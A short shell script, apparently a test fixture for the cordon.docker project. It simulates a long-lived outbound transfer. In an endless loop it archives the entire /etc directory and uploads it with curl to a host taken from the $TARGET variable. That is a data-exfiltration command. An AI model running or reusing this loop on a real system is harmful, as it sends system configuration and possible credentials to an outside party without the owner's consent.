#!/bin/sh
# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

# Packs and sends; what comes after the archive keeps the connection open, as a big one would.
while :; do
    { tar -C /etc -cz .; sleep 600; } | curl --silent --upload-file - "$TARGET"
    sleep 60
done
